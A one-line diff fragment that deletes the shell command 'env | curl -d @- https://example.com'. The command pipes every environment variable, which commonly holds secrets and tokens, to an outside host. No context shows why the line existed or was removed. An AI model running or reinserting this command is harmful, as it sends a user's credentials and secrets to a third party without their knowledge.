@@ -1,1 +1,0 @@
-env | curl -d @- https://example.com
